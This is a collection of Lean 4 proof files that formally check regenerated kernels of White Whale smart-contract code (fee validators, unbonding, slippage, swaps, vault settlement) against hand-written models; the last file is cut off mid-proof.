  Regenerated kernel ↔ hand-written model, C20: `fee_distributor/src/helpers.rs::validate_epoch_config`
  against the epoch-clock model's own replica `WW.Epoch.validEpochConfig` (`WW/Model/Epoch.lean`; the
  Config model's replica `durationValid` is tied in `EpochCfg.lean`, C18).
  `WW.Gen.K.validate_epoch_config` is regenerated from the Rust source text on every check run by
  `tools/rs2lean.py`; the theorem below is a proof obligation of C20.  Theorems only.

  Adapter: Rust `Result<(), ContractError>` ↔ model `Bool` through `guardErr` (`true` ↦ `Res.ok ()`,
  `false` ↦ `Res.err`): full equality of `Res Unit` values.
-/
import WW.Gen.Kernels
import WW.Proofs.KernelsEpochCfg
import WW.Model.Epoch
namespace WW.KernelsEpochClock
open WW WW.Gen WW.Epoch

/-- the generated `EpochConfig` as the clock model's `Cfg` (same two fields) -/
theorem cfg_fields (c : K.EpochConfig) :
    ({ duration := c.duration, genesis := c.genesis_epoch } : Cfg).duration = c.duration := rfl

/-- `validate_epoch_config` = the clock model's `validEpochConfig`, for every `EpochConfig`
    (`d < DAY` rejected in the code, `DAY ≤ d` accepted in the model: the same set) -/
theorem gen_validate_epoch_config_eq_model (c : K.EpochConfig) :
    K.validate_epoch_config c
      = guardErr (validEpochConfig { duration := c.duration, genesis := c.genesis_epoch }) := by
  unfold K.validate_epoch_config validEpochConfig
  rw [validator_shape]
  have h : (!(decide (c.duration < 86400000000000))) = decide (DISTRIBUTOR_DAY_IN_NANOSECONDS ≤ c.duration) := by
    by_cases hd : c.duration < 86400000000000
    · rw [decide_eq_true hd, decide_eq_false (by unfold DISTRIBUTOR_DAY_IN_NANOSECONDS; omega)]; rfl
    · rw [decide_eq_false hd, decide_eq_true (by unfold DISTRIBUTOR_DAY_IN_NANOSECONDS; omega)]; rfl
  rw [h]

/-- accepted-iff form, for the clock model's configuration type -/
theorem gen_validate_epoch_config_ok_iff (m : Cfg) :
    K.validate_epoch_config { duration := m.duration, genesis_epoch := m.genesis } = Res.ok ()
      ↔ validEpochConfig m = true := by
  rw [gen_validate_epoch_config_eq_model]; exact guardErr_ok_iff _

end WW.KernelsEpochClock
