/-
  Regenerated FRAGMENT kernel ↔ hand-written model, C08: the unbonding arithmetic that the whale lair's
  `commands::unbond` carries INLINE after `update_local_weight` — the weight slash
  `unbond.weight * Decimal::from_ratio(asset.amount, unbond.asset.amount)`, the two `checked_sub`s of the weight and of the
  bonded amount — against `WW.Lair.unbondLocal` (`WW/Model/Lair.lean`), on which C08's `global = Σ` and conservation
  theorems rest (`get_weight`, the step before it, is tied by `LairWeight.lean`).
  `WW.Gen.K.lair_unbond_slash` is regenerated from the handler's source lines on every check run by `tools/rs2lean.py`
  (fragment kernel: `unbond.weight`, `unbond.asset.amount`, `asset.amount` are parameters, the first two assigned);
  the theorems below are proof obligations of C08.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
import WW.Model.Lair
import WW.Props.Kernels.LairWeight
namespace WW.KernelsLairUnbond
open WW WW.Gen WW.Lair

/-- **`unbondLocal` is `get_weight` followed by the regenerated slash stretch**, for EVERY state, environment, bond and
    amount: full equality of `Res` values (the panics of `from_ratio` on an empty bond / of `Uint128 * Decimal`, the `Err`s
    of the two `checked_sub`s included). Together with `gen_lair_get_weight_eq_model` both numeric steps of the local part
    of `unbond` are the code's. -/
theorem gen_lair_unbond_slash_eq_model (s : St) (e : Env) (b : BondRec) (x : Nat) :
    unbondLocal s e b x =
      ((K.lair_get_weight e.now b.weight b.amount s.rate b.ts).bind fun w =>
        (K.lair_unbond_slash w b.amount x).bind fun r =>
          .ok ({ b with amount := r.2.2, weight := r.2.1, ts := e.now }, r.1)) := by
  rw [KernelsLairWeight.gen_lair_get_weight_eq_model]
  unfold unbondLocal K.lair_unbond_slash
  cases getWeight e.now b.weight b.amount s.rate b.ts with
  | err => rfl
  | panic => rfl
  | ok w =>
    show (dec128FromRatio x b.amount >>= _) = (dec128FromRatio x b.amount >>= _).bind _
    cases dec128FromRatio x b.amount with
    | err => rfl
    | panic => rfl
    | ok ratio =>
      show (u128MulDec w ratio >>= _) = (u128MulDec w ratio >>= _).bind _
      cases u128MulDec w ratio with
      | err => rfl
      | panic => rfl
      | ok slash =>
        show (csub w slash >>= _) = (csub w slash >>= _).bind _
        cases csub w slash with
        | err => rfl
        | panic => rfl
        | ok w' =>
          show (csub b.amount x >>= _) = (csub b.amount x >>= _).bind _
          cases csub b.amount x with
          | err => rfl
          | panic => rfl
          | ok amt => rfl

/-- closed form of the stretch for a bond that covers the amount (`x ≤ amount`, `0 < amount`, weight within 128 bits):
    slash = `⌊w · ⌊x·10¹⁸/amount⌋ / 10¹⁸⌋ ≤ w`, nothing fails -/
theorem lair_unbond_slash_closed (w amt x : Nat) (h0 : 0 < amt) (hx : x ≤ amt) (hw : w ≤ U128MAX) :
    K.lair_unbond_slash w amt x =
      .ok (w * (x * E18 / amt) / E18, w - w * (x * E18 / amt) / E18, amt - x) := by
  have hr : x * E18 / amt ≤ E18 := by
    apply Nat.div_le_of_le_mul
    rw [Nat.mul_comm amt E18, Nat.mul_comm x E18]
    exact Nat.mul_le_mul_left E18 hx
  have hs : w * (x * E18 / amt) / E18 ≤ w := by
    apply Nat.div_le_of_le_mul
    rw [Nat.mul_comm E18 w]
    exact Nat.mul_le_mul_left w hr
  unfold K.lair_unbond_slash dec128FromRatio mulRatioP u128MulDec csub
  rw [if_neg (by omega : ¬ amt = 0), if_pos (Nat.le_trans hr (by decide)), Res.bind_ok_s,
    if_pos (Nat.le_trans hs hw), Res.bind_ok_s, if_pos hs, Res.bind_ok_s, if_pos hx]
  rfl

/-- non-vacuity: weight 3 000 on a bond of 1 000, a quarter is unbonded -/
example : K.lair_unbond_slash 3000 1000 250 = .ok (750, 2250, 750) := by decide

end WW.KernelsLairUnbond
