/-
  Regenerated kernels ↔ hand-written model, C15:
  `white-whale-std/src/pool_network/swap.rs::assert_max_spread`,
  `terraswap_pair/src/helpers.rs::assert_slippage_tolerance`,
  `stableswap_3pool/src/helpers.rs::assert_slippage_tolerance`.
  `WW.Gen.K.*` is regenerated from the Rust source text on every check run by `tools/rs2lean.py`;
  the theorems below are proof obligations of C15.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.KernelsSlippage
namespace WW.KernelsSlippage
open WW WW.Gen

/-- `assert_max_spread` regenerated = the model `assertMaxSpread`, for ALL inputs (every optional
    `Decimal` as atomics, every amount), including `Err` vs panic. -/
theorem gen_assert_max_spread_eq_model (belief maxSpread : Option Nat) (offer ret spread : Nat) :
    K.assert_max_spread belief maxSpread offer ret spread
      = assertMaxSpread belief maxSpread offer ret spread := by
  unfold K.assert_max_spread assertMaxSpread effSpread
  simp only [Res.bind_ok_s, k_min_eq, SWAP_DEFAULT_SLIPPAGE, SWAP_MAX_ALLOWED_SLIPPAGE]
  cases belief with
  | none =>
    simp only [Res.bind_assoc', Res.bind_unit_ok] <;> rfl
  | some p =>
    simp only [Res.bind_unit_ok]
    cases decInv p with
    | none => simp only [optErr_none, Res.bind_err_s]
    | some inv =>
      simp only [optErr_some, Res.bind_ok_s, and_shortcircuit, decide_eq_true_eq, Bool.false_eq_true,
        if_false]
      rfl

/-- the pair's `assert_slippage_tolerance` regenerated = `pairAssertSlippage`, for ALL inputs and both
    pool types (`pools[i]` enters through `.amount` only). -/
theorem gen_pair_assert_slippage_tolerance_eq_model (tol : Option Nat) (deposits : Nat × Nat)
    (pools : K.Asset × K.Asset) (pairType : K.PairType) (amount supply : Nat) :
    K.pair_assert_slippage_tolerance tol deposits pools pairType amount supply
      = pairAssertSlippage tol deposits.1 deposits.2 pools.1.amount pools.2.amount
          (PoolKind.ofGen pairType) amount supply := by
  unfold K.pair_assert_slippage_tolerance pairAssertSlippage
  cases tol with
  | none => simp only [Res.bind_unit_ok]
  | some t =>
    simp only [Res.bind_unit_ok]
    by_cases ht : t > E18
    · rw [if_pos ht, if_pos ht, Res.bind_err_s]
    · rw [if_neg ht, if_neg ht, Res.bind_ok_s]
      cases pairType with
      | StableSwap amp =>
        simp only [PoolKind.ofGen]
      | ConstantProduct =>
        simp only [PoolKind.ofGen, Res.ite_bind, Res.bind_assoc', Res.pure_eq, Res.bind_ok_s,
          decide_eq_true_eq, eq_self, if_true] <;> rfl

/-- the 3pool's `assert_slippage_tolerance` regenerated = `trioAssertSlippage`, for ALL inputs -/
theorem gen_trio_assert_slippage_tolerance_eq_model (tol : Option Nat) (deposits : Nat × Nat × Nat)
    (pools : K.Asset × K.Asset × K.Asset) (amount supply : Nat) :
    K.trio_assert_slippage_tolerance tol deposits pools amount supply
      = trioAssertSlippage tol deposits.1 deposits.2.1 deposits.2.2
          pools.1.amount pools.2.1.amount pools.2.2.amount amount supply := by
  unfold K.trio_assert_slippage_tolerance trioAssertSlippage
  cases tol with
  | none => simp only [Res.bind_unit_ok]
  | some t =>
    simp only [Res.bind_unit_ok]
    by_cases ht : t > E18
    · rw [if_pos ht, if_pos ht, Res.bind_err_s]
    · rw [if_neg ht, if_neg ht, Res.bind_ok_s]

end WW.KernelsSlippage
