/-
  Regenerated kernel ↔ hand-written model, C04: `stableswap_3pool/src/helpers.rs::compute_swap`
  (default features), on top of the regenerated `swap_to` and `Fee::compute`.
  `WW.Gen.K.trio_compute_swap` is regenerated from the Rust source text on every check run by
  `tools/rs2lean.py`; the theorem below is a proof obligation of C04.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.KernelsSwap
import WW.Props.Kernels.Curve
namespace WW.KernelsTrioSwap
open WW WW.Gen

/-- 3pool `compute_swap` regenerated = the Trio model's `computeSwap` (field by field), for ALL inputs -/
theorem gen_trio_compute_swap_eq_model (offerPool askPool unsw offer : Nat) (fees : K.TrioPoolFee)
    (s : K.StableSwap) :
    K.trio_compute_swap offerPool askPool unsw offer fees s
      = (Trio.computeSwap ⟨s.initial_amp_factor, s.target_amp_factor, s.start_ramp_ts, s.stop_ramp_ts⟩
          s.current_ts offerPool askPool unsw offer
          ⟨fees.protocol_fee.share, fees.swap_fee.share, fees.burn_fee.share⟩).mapTo
          (fun c => { return_amount := c.ret, spread_amount := c.spread, swap_fee_amount := c.swapFee,
                      protocol_fee_amount := c.protFee, burn_fee_amount := c.burnFee }) := by
  unfold K.trio_compute_swap Trio.computeSwap Res.mapTo
  simp only [KernelsCurve.gen_trio_swap_to_eq_model, K_Fee_compute_eq, narrowTo_128, guarded_absdiff,
    Res.mapTo, Res.bind_assoc', Res.pure_eq, Res.bind_ok_s, unwrapPanic_bind, unwrapPanic_ok]
  simp only [unwrapPanic_eq_unwrapP] <;> rfl

end WW.KernelsTrioSwap
