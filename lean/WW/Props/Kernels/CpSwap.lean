/-
  Regenerated kernel ↔ hand-written model, C02: the `PairType::ConstantProduct` arm of
  `terraswap_pair/src/helpers.rs::compute_swap` (default features) and `Fee::compute`.
  `WW.Gen.K.*` is regenerated from the Rust source text on every check run by `tools/rs2lean.py`;
  the theorems below are proof obligations of C02.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.KernelsSwap
import WW.Props.Kernels.Fees
namespace WW.KernelsCpSwap
open WW WW.Gen

/-- `Fee::compute` is `amount * Decimal256::from(share)`: the model's `feeOf`, panicking when the
    product does not fit 256 bits (all `Nat` inputs). -/
theorem gen_Fee_compute_eq_model (fee : K.Fee) (amt : Nat) :
    K.Fee_compute fee amt =
      if feeOf fee.share amt ≤ U256MAX then .ok (feeOf fee.share amt) else .panic := by
  rw [K_Fee_compute_eq]
  rfl

/-- The definition regenerated from the constant-product arm of `compute_swap` equals the model
    `cpSwap` on ALL inputs (every `Nat`, every fee record, any decimal settings — the two precision
    arguments are unused in this arm), including which of `Err` / panic it fails with. -/
theorem gen_compute_swap_ConstantProduct_eq_model (op ap off : Nat) (fees : K.PoolFee) (p₀ p₁ : Nat) :
    K.compute_swap_ConstantProduct op ap off fees p₀ p₁
      = (cpSwap op ap off (Fees.ofGen fees)).mapTo SwapComp.toGen := by
  unfold K.compute_swap_ConstantProduct cpSwap Res.mapTo
  simp only [K_Fee_compute_eq, narrowTo_128, Res.bind_assoc', Res.bind_ok_s, Res.pure_eq] <;> rfl

/-- the C02 domain predicate `Fees.valid` is exactly "the real `PoolFee::is_valid` returns Ok" -/
theorem gen_PoolFee_is_valid_iff_Fees_valid (p : K.PoolFee) :
    K.PoolFee_is_valid p = .ok () ↔ (Fees.ofGen p).valid = true := by
  rw [KernelsFees.gen_PoolFee_is_valid_eq_model]
  unfold Config.fees3IsValid Config.Fees3.ofPool Fees.valid Fees.ofGen
  simp only [Bool.and_eq_true, decide_eq_true_eq]
  have hE : 3 * E18 ≤ U128MAX := by decide
  constructor
  · intro h
    split at h
    · cases h
    split at h
    · cases h
    split at h
    · cases h
    split at h
    · cases h
    split at h
    · cases h
    split at h
    · cases h
    omega
  · rintro ⟨⟨⟨h1, h2⟩, h3⟩, h4⟩
    rw [if_neg (by omega), if_neg (by omega), if_neg (by omega), if_neg (by omega), if_neg (by omega),
      if_neg (by omega)]

end WW.KernelsCpSwap
