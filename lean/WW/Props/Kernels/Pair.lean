/-
  Regenerated FRAGMENT kernel ↔ hand-written model, C01: the LP-share arithmetic that the pair's
  `provide_liquidity` handler (`terraswap_pair/src/commands.rs`) carries INLINE for a deposit into a
  constant-product pool that already has shares —
  `min(deposits[0].multiply_ratio(total_share, pools[0].amount), deposits[1].multiply_ratio(total_share, pools[1].amount))`
  followed by `helpers::assert_slippage_tolerance(..)?` — against the later-deposit branch of the pair model's
  `provideShares` (`WW/Model/Pair.lean`), on which `C01.lp_value_step` and the `min`-share lemmas rest.
  `WW.Gen.K.pair_provide_later_shares` is regenerated from the handler's source lines on every check run by
  `tools/rs2lean.py` (fragment kernel); the theorems below are proof obligations of C01.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
import WW.Model.Pair
import WW.Props.Kernels.Slippage
namespace WW.KernelsPair
open WW WW.Gen WW.Pair

/-- **The later-deposit stretch of `provide_liquidity` equals the model's `provideShares`** for a pool with shares
    (`sup ≠ 0`), for ALL deposits, reserves, supplies and tolerances: same `min` of the two floored ratios, same
    panics (zero reserve, ratio above 128 bits), same slippage refusal; the pair itself is minted nothing. -/
theorem gen_pair_provide_later_shares_eq_model (d0 d1 : Nat) (pools : K.Asset × K.Asset) (sup : Nat)
    (tol : Option Nat) (hs : sup ≠ 0) :
    K.pair_provide_later_shares (d0, d1) pools sup tol K.PairType.ConstantProduct
      = (provideShares sup pools.1.amount pools.2.amount d0 d1 tol).bind (fun r => .ok r.1) := by
  unfold K.pair_provide_later_shares provideShares
  rw [if_neg hs]
  simp only [KernelsSlippage.gen_pair_assert_slippage_tolerance_eq_model, PoolKind.ofGen]
  cases h0 : mulRatioP U128MAX d0 sup pools.1.amount with
  | err => rfl
  | panic => rfl
  | ok a0 =>
    cases h1 : mulRatioP U128MAX d1 sup pools.2.amount with
    | err => rfl
    | panic => rfl
    | ok a1 =>
      simp only [Res.bind_ok_s]
      cases pairAssertSlippage tol d0 d1 pools.1.amount pools.2.amount PoolKind.constantProduct
          (min a0 a1) sup with
      | err => rfl
      | panic => rfl
      | ok u => rfl

/-- the amount the model mints to the pair itself on a later deposit is zero, and the receiver's amount is the
    regenerated stretch's result -/
theorem provideShares_later_is_code (d0 d1 : Nat) (pools : K.Asset × K.Asset) (sup : Nat) (tol : Option Nat)
    (hs : sup ≠ 0) (amt lock : Nat)
    (h : provideShares sup pools.1.amount pools.2.amount d0 d1 tol = .ok (amt, lock)) :
    K.pair_provide_later_shares (d0, d1) pools sup tol K.PairType.ConstantProduct = .ok amt := by
  rw [gen_pair_provide_later_shares_eq_model d0 d1 pools sup tol hs, h]
  rfl

/-- non-vacuity: reserves (2 000 000, 1 000 000), supply 1 414 213, deposit (2 000, 1 001): the second leg binds -/
example :
    K.pair_provide_later_shares (2000, 1001) ({ amount := 2000000 }, { amount := 1000000 }) 1414213 none
      K.PairType.ConstantProduct = .ok 1414 := by decide

end WW.KernelsPair
