/-
  Regenerated kernels ↔ hand-written model, C03: the raw-amount invariant solver of
  `terraswap_pair/src/helpers.rs` — `compute_next_d`, `compute_d` (256-round loop),
  `compute_lp_mint_amount_for_stableswap_deposit`.
  `WW.Gen.K.*` is regenerated from the Rust source text on every check run by `tools/rs2lean.py`;
  the theorems below are proof obligations of C03.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
namespace WW.KernelsStable2
open WW WW.Gen

/-- `compute_next_d(..).unwrap()` as `compute_d` calls it (two coins): the model's `computeNextD`,
    in which every `None` is already the caller's panic.  ALL inputs. -/
theorem gen_pair_compute_next_d_eq_model (amp dInit dProd sumX : Nat) :
    unwrapPanic (K.pair_compute_next_d amp dInit dProd sumX 2) = computeNextD amp dInit dProd sumX := by
  unfold K.pair_compute_next_d computeNextD pmul64 SS_N PAIR_N_COINS
  simp only [unwrapPanic_bind, unwrapPanic_cmul, unwrapPanic_cadd,
    unwrapPanic_csub, unwrapPanic_cdiv_arith, unwrapPanic_pmul, unwrapPanic_padd,
    unwrapPanic_pdiv, two_as_u64, padd_u128_2_1, Res.bind_ok_s, Res.bind_ok_right] <;> rfl

/-- the `for _ in 0..256` loop of `compute_d`, for every number of rounds left and every state -/
theorem gen_pair_compute_d_loop_eq_model (amp sumX a2 b2 : Nat) :
    ∀ fuel d, K.pair_compute_d_loop1 amp sumX 2 a2 b2 fuel d = computeDLoop fuel amp a2 b2 sumX d := by
  intro fuel
  induction fuel with
  | zero => intro d; unfold K.pair_compute_d_loop1 computeDLoop; rfl
  | succ n ih =>
    intro d
    unfold K.pair_compute_d_loop1 computeDLoop computeDStep
    simp only [unwrapPanic_cmul, unwrapPanic_cdiv_arith, unwrapPanic_csub,
      gen_pair_compute_next_d_eq_model, ih, newton_tail_lt, Res.bind_assoc'] <;> rfl

/-- `compute_d` regenerated = the model's `computeD` (which is `compute_d(..).unwrap()`: the function
    never returns `None`), for ALL inputs -/
theorem gen_pair_compute_d_eq_model (amp a b : Nat) :
    K.pair_compute_d amp a b = computeD amp a b := by
  unfold K.pair_compute_d computeD COMPUTE_D_ITERATIONS PAIR_COMPUTE_D_ITERATIONS SS_N PAIR_N_COINS
  simp only [unwrapPanic_cmul, unwrapPanic_cadd, gen_pair_compute_d_loop_eq_model, Res.bind_ok_right,
    Res.pure_eq] <;> rfl

/-- `compute_lp_mint_amount_for_stableswap_deposit` regenerated = the model's `ssLpMint`, whose
    `ok none` is the function's `None` (= `err` on the generated side), for ALL inputs -/
theorem gen_pair_compute_lp_mint_eq_model (amp da db sa sb supply : Nat) :
    K.pair_compute_lp_mint_amount_for_stableswap_deposit amp da db sa sb supply
      = (ssLpMint amp da db sa sb supply >>= optErr) := by
  unfold K.pair_compute_lp_mint_amount_for_stableswap_deposit ssLpMint lpMintQuot
  simp only [unwrapPanic_cmul, unwrapPanic_cadd, unwrapPanic_csub, unwrapPanic_cdiv_arith,
    gen_pair_compute_d_eq_model, Res.bind_assoc', Res.ite_bind, Res.pure_eq, Res.bind_ok_s, optErr_none,
    optErr_some, unwrapPanic_narrowTo, Res.bind_ok_right, Res.bind_panic_s] <;> rfl

end WW.KernelsStable2
