/-
  Regenerated kernels ↔ hand-written model, C18 (validators of the fee distributor and the whale lair):
  `fee_distributor/src/helpers.rs` `validate_grace_period` (with `MAX_GRACE_PERIOD`), `validate_epoch_config`
  (with `DAY_IN_NANOSECONDS`; `EpochConfig` of `white-whale-std/src/epoch_manager/epoch_manager.rs`);
  `whale_lair/src/helpers.rs` `validate_growth_rate`.
  `WW.Gen.K.*` is regenerated from the Rust source text on every check run by `tools/rs2lean.py`;
  the theorems below are proof obligations of C18.  Theorems only.

  Adapter: the Rust validators return `Result<(), ContractError>`, the model functions of
  `WW/Model/Config.lean` return `Bool` (`true` = accepted).  `guardErr b` is `Res.ok ()` for `b = true` and
  `Res.err` for `b = false`, so every statement is a full equality of `Res Unit` values (the validators
  cannot panic), and the `… = Res.ok () ↔ model = true` forms follow.
-/
import WW.Gen.Kernels
import WW.Proofs.KernelsEpochCfg
import WW.Model.Config
namespace WW.KernelsEpochCfg
open WW WW.Gen WW.Config

/-- `validate_grace_period` (constant `MAX_GRACE_PERIOD` read from the same file) = the model's
    `graceValid` (which uses the separately extracted `Gen.DISTRIBUTOR_MAX_GRACE_PERIOD`), for every `Nat` -/
theorem gen_validate_grace_period_eq_model (g : Nat) :
    K.validate_grace_period g = guardErr (graceValid g) := by
  unfold K.validate_grace_period graceValid
  rw [validator_shape, Bool.decide_or]; rfl

/-- accepted-iff form of the adapter -/
theorem gen_validate_grace_period_ok_iff (g : Nat) :
    K.validate_grace_period g = Res.ok () ↔ graceValid g = true := by
  rw [gen_validate_grace_period_eq_model]; exact guardErr_ok_iff _

/-- `validate_epoch_config` (constant `DAY_IN_NANOSECONDS` of the same file) = the model's `durationValid`
    on the `duration` field, for every `EpochConfig` (the genesis time is not looked at) -/
theorem gen_validate_epoch_config_eq_model (c : K.EpochConfig) :
    K.validate_epoch_config c = guardErr (durationValid c.duration) := by
  unfold K.validate_epoch_config durationValid
  rw [validator_shape]; rfl

/-- accepted-iff form of the adapter -/
theorem gen_validate_epoch_config_ok_iff (c : K.EpochConfig) :
    K.validate_epoch_config c = Res.ok () ↔ durationValid c.duration = true := by
  rw [gen_validate_epoch_config_eq_model]; exact guardErr_ok_iff _

/-- `validate_growth_rate` = the model's `growthValid` (`Decimal::percent(100)` = `E18` atomics) -/
theorem gen_validate_growth_rate_eq_model (r : Nat) :
    K.validate_growth_rate r = guardErr (growthValid r) := by
  unfold K.validate_growth_rate growthValid
  rw [percent_100, validator_shape]

/-- accepted-iff form of the adapter -/
theorem gen_validate_growth_rate_ok_iff (r : Nat) :
    K.validate_growth_rate r = Res.ok () ↔ growthValid r = true := by
  rw [gen_validate_growth_rate_eq_model]; exact guardErr_ok_iff _

end WW.KernelsEpochCfg
