/-
  Regenerated FRAGMENT kernel ↔ hand-written model, C05 / C06 / C07: the settlement arithmetic that the vault's
  `after_trade` handler (`vault-network/vault/src/execute/callback/after_trade.rs`) carries INLINE between its
  balance query and its ledger writes — the three `Fee::compute`s on the loan amount narrowed to `Uint128`, the
  `checked_add` chain of the required amount, the `NegativeProfit` comparison and the `checked_sub` chain of the
  profit — against the vault model's `fee` / `afterTradeOk` / `afterTradeRes` / `payback` (`WW/Model/Vault.lean`).
  `WW.Gen.K.vault_after_trade_settlement` is regenerated from the handler's source lines on every check run by
  `tools/rs2lean.py` (fragment kernel: the stretch's free variables are parameters); the theorems below are proof
  obligations of C05, C06 and C07.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.KernelsSwap
import WW.Model.Vault
namespace WW.KernelsVault
open WW WW.Gen WW.Vault

/-- a fee share below one never charges more than the amount -/
theorem fee_le (share amt : Nat) (h : share < E18) : fee share amt ≤ amt := by
  unfold fee
  apply Nat.div_le_of_le_mul
  rw [Nat.mul_comm E18 amt]
  exact Nat.mul_le_mul_left amt (Nat.le_of_lt h)

/-- `Uint128::try_from(fee.compute(Uint256::from(amount)))?` is the model's `fee` for a share below one and a
    `Uint128` amount: neither the 256-bit product panics nor the narrowing errs. -/
theorem compute_narrow (f : K.Fee) (amt : Nat) (hs : f.share < E18) (ha : amt ≤ U128MAX) :
    (K.Fee_compute f amt >>= fun t => narrowTo U128MAX t) = .ok (fee f.share amt) := by
  have h1 : fee f.share amt ≤ U128MAX := Nat.le_trans (fee_le _ _ hs) ha
  have h2 : fee f.share amt ≤ U256MAX := Nat.le_trans h1 (by decide)
  rw [K_Fee_compute_eq]
  unfold u256MulDec narrowTo
  unfold fee at h1 h2
  rw [if_pos h2, Res.bind_ok_s, if_pos h1]
  rfl

/-- **The settlement stretch of `after_trade` equals the model's arithmetic** for every configuration whose three
    shares are below one (the C18 invariant `VaultFee::is_valid`), every `Uint128` loan amount and ALL balances:
    it succeeds exactly when `old + protocol + flash + burn` fits 128 bits and is covered by the new balance
    (otherwise `Err`, never a panic), the three fees are `⌊amount·share⌋` of the model's `fee`, the required amount
    is their sum on top of the old balance and the reported profit is what is left. -/
theorem gen_vault_after_trade_settlement_eq_model (cfg : K.VaultConfig) (old loan new : Nat)
    (hp : cfg.fees.protocol_fee.share < E18) (hf : cfg.fees.flash_loan_fee.share < E18)
    (hb : cfg.fees.burn_fee.share < E18) (hl : loan ≤ U128MAX) :
    K.vault_after_trade_settlement cfg old loan new =
      (if old + fee cfg.fees.protocol_fee.share loan + fee cfg.fees.flash_loan_fee.share loan
            + fee cfg.fees.burn_fee.share loan ≤ U128MAX
          ∧ old + fee cfg.fees.protocol_fee.share loan + fee cfg.fees.flash_loan_fee.share loan
            + fee cfg.fees.burn_fee.share loan ≤ new
       then .ok (fee cfg.fees.protocol_fee.share loan, fee cfg.fees.flash_loan_fee.share loan,
                 fee cfg.fees.burn_fee.share loan,
                 old + fee cfg.fees.protocol_fee.share loan + fee cfg.fees.flash_loan_fee.share loan
                   + fee cfg.fees.burn_fee.share loan,
                 new - old - fee cfg.fees.protocol_fee.share loan - fee cfg.fees.flash_loan_fee.share loan
                   - fee cfg.fees.burn_fee.share loan)
       else .err) := by
  unfold K.vault_after_trade_settlement
  have e1 := compute_narrow cfg.fees.protocol_fee loan hp hl
  have e2 := compute_narrow cfg.fees.flash_loan_fee loan hf hl
  have e3 := compute_narrow cfg.fees.burn_fee loan hb hl
  generalize fee cfg.fees.protocol_fee.share loan = p at *
  generalize fee cfg.fees.flash_loan_fee.share loan = f at *
  generalize fee cfg.fees.burn_fee.share loan = b at *
  rw [← Res.bind_assoc', e1, Res.bind_ok_s, ← Res.bind_assoc', e2, Res.bind_ok_s, ← Res.bind_assoc', e3,
    Res.bind_ok_s]
  unfold cadd csub
  by_cases h1 : old + p ≤ U128MAX
  · rw [if_pos h1, Res.bind_ok_s]
    by_cases h2 : old + p + f ≤ U128MAX
    · rw [if_pos h2, Res.bind_ok_s]
      by_cases h3 : old + p + f + b ≤ U128MAX
      · rw [if_pos h3, Res.bind_ok_s]
        by_cases h4 : old + p + f + b ≤ new
        · have n4 : ¬ (old + p + f + b > new) := by omega
          rw [if_neg n4, Res.bind_ok_s, if_pos (by omega : old ≤ new), Res.bind_ok_s,
            if_pos (by omega : p ≤ new - old), Res.bind_ok_s, if_pos (by omega : f ≤ new - old - p),
            Res.bind_ok_s, if_pos (by omega : b ≤ new - old - p - f), Res.bind_ok_s, if_pos ⟨h3, h4⟩]
          rfl
        · have n4 : old + p + f + b > new := by omega
          rw [if_pos n4, Res.bind_err_s, if_neg (fun h => h4 h.2)]
      · rw [if_neg h3, Res.bind_err_s, if_neg (fun h => h3 h.1)]
    · rw [if_neg h2, Res.bind_err_s, if_neg (fun h => h2 (by omega))]
  · rw [if_neg h1, Res.bind_err_s, if_neg (fun h => h1 (by omega))]

/-- the settlement stretch cannot panic on a valid configuration and a `Uint128` loan amount -/
theorem settlement_never_panics (cfg : K.VaultConfig) (old loan new : Nat)
    (hp : cfg.fees.protocol_fee.share < E18) (hf : cfg.fees.flash_loan_fee.share < E18)
    (hb : cfg.fees.burn_fee.share < E18) (hl : loan ≤ U128MAX) :
    K.vault_after_trade_settlement cfg old loan new ≠ .panic := by
  rw [gen_vault_after_trade_settlement_eq_model cfg old loan new hp hf hb hl]
  split <;> intro h <;> cases h

/-- **Tie to the state machine.** For a model state `s` (whose fee record is valid) and the code's `Config` carrying
    the same three shares, the model's `afterTrade` goes through only if the real handler's settlement stretch goes
    through on the vault's balance, and then the fees the handler books / burns are the ones `afterTradeRes` books /
    burns, and the required amount is the recorded balance plus what `payback` adds to the loan amount. -/
theorem afterTrade_uses_code_settlement (s : St) (cfg : K.VaultConfig) (old loan : Nat)
    (hp : cfg.fees.protocol_fee.share = s.fees.prot) (hf : cfg.fees.flash_loan_fee.share = s.fees.flash)
    (hb : cfg.fees.burn_fee.share = s.fees.burn) (hv : s.fees.valid = true) (hl : loan ≤ U128MAX)
    (hok : afterTradeOk s old loan = true) :
    K.vault_after_trade_settlement cfg old loan s.bal =
      .ok (fee s.fees.prot loan, fee s.fees.flash loan, fee s.fees.burn loan,
           old + (payback s loan - loan),
           s.bal - old - fee s.fees.prot loan - fee s.fees.flash loan - fee s.fees.burn loan) := by
  unfold VFees.valid at hv
  simp only [Bool.and_eq_true, decide_eq_true_eq] at hv
  unfold afterTradeOk at hok
  simp only [Bool.and_eq_true, decide_eq_true_eq] at hok
  rw [gen_vault_after_trade_settlement_eq_model cfg old loan s.bal (by omega) (by omega) (by omega) hl,
    hp, hf, hb, if_pos ⟨hok.1.1.1.1, hok.1.1.1.2⟩]
  unfold payback
  congr 5
  omega

/-- conversely: when the real settlement stretch refuses (`Err`), the model's `afterTrade` refuses too -/
theorem code_settlement_err_model_refuses (s : St) (cfg : K.VaultConfig) (old loan : Nat)
    (hp : cfg.fees.protocol_fee.share = s.fees.prot) (hf : cfg.fees.flash_loan_fee.share = s.fees.flash)
    (hb : cfg.fees.burn_fee.share = s.fees.burn) (hv : s.fees.valid = true) (hl : loan ≤ U128MAX)
    (herr : K.vault_after_trade_settlement cfg old loan s.bal = .err) :
    afterTrade s old loan = none := by
  unfold VFees.valid at hv
  simp only [Bool.and_eq_true, decide_eq_true_eq] at hv
  rw [gen_vault_after_trade_settlement_eq_model cfg old loan s.bal (by omega) (by omega) (by omega) hl,
    hp, hf, hb] at herr
  unfold afterTrade
  split at herr
  · cases herr
  · rename_i hn
    have : afterTradeOk s old loan = false := by
      unfold afterTradeOk
      simp only [Bool.and_eq_false_iff, decide_eq_false_iff_not]
      by_cases h1 : old + fee s.fees.prot loan + fee s.fees.flash loan + fee s.fees.burn loan ≤ U128MAX
